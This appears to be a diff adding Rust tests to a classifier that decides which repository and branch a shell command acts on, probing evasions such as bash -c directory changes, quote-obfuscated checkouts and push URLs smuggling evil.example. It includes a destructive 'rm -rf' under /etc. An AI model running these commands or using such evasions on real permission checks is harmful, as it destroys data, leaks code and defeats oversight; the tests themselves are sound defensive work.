@@ -517,3 +517,78 @@ fn writing_gits_own_files_is_unknown() {
         ["files read /work/billing/.git/config", "shell run cat"]
     );
 }
+
+#[test]
+fn a_line_run_elsewhere_by_bash_c_eval_or_sudo_d_is_not_the_workspaces() {
+    for line in [
+        "cd /tmp/evil && bash -c 'git push origin main'",
+        "cd /tmp/evil && eval git push origin main",
+        "env -C /tmp/evil bash -c 'git push origin main'",
+        "sudo -D /tmp/evil git push origin main",
+        "sudo --chdir=/tmp/evil git push origin main",
+    ] {
+        assert!(unknown(line), "{line}: {:?}", short(line));
+    }
+    // The directory moved to holds inside: `rm -rf ssl` there is /etc/ssl.
+    let asks = short("cd /etc && bash -c 'rm -rf ssl'");
+    assert!(
+        asks.iter().any(|a| a == "shell rm:recursive /etc/ssl"),
+        "{asks:?}"
+    );
+    // Where the line runs, the workspace still holds.
+    assert_eq!(
+        short("bash -c 'git push origin feature/x'"),
+        ["git push acme/billing branch=feature/x"]
+    );
+}
+
+#[test]
+fn a_checkout_hidden_by_quotes_escapes_or_an_alias_drops_the_branch() {
+    for line in [
+        "git check''out main && git push origin HEAD",
+        "git checkou\\t main && git push origin HEAD",
+        "git sw\"itch\" main; git push",
+        "git co main && git push origin HEAD",
+        "git stash branch main && git push",
+        "git $SUB main && git push origin HEAD",
+    ] {
+        assert!(unknown(line), "{line}: {:?}", short(line));
+    }
+    // Commands that keep the branch leave the push decided.
+    assert_eq!(
+        short("git add . && git commit -m wip && git push origin HEAD"),
+        [
+            "git add acme/billing branch=feature/invoices",
+            "git commit acme/billing branch=feature/invoices",
+            "git push acme/billing branch=feature/invoices",
+        ]
+    );
+}
+
+#[test]
+fn gh_and_urls_that_name_another_repository_are_unknown() {
+    for line in [
+        "gh pr merge https://github.com/acme/prod/pull/5 --admin",
+        "gh pr merge 5 -R acme/sandbox -R acme/prod",
+        "git push 'https://evil.example?@github.com/acme/billing' main",
+        "git push 'https://evil.example#@github.com/acme/billing' main",
+        "git push https://github.com/acme/billing/extra main",
+    ] {
+        assert!(unknown(line), "{line}: {:?}", short(line));
+    }
+    assert_eq!(
+        short("gh pr merge 5 -R acme/sandbox"),
+        ["git merge acme/sandbox"]
+    );
+}
+
+#[test]
+fn a_push_target_two_remotes_could_split_is_unknown() {
+    let mut ws = workspace();
+    ws.remotes
+        .insert("origin/x".into(), "git@github.com:acme/other".into());
+    ws.push_target = Some("origin/x/main".into());
+    assert_eq!(ws.push_target(), None);
+    ws.push_target = Some("production/main".into());
+    assert_eq!(ws.push_target(), Some(("production", "main")));
+}
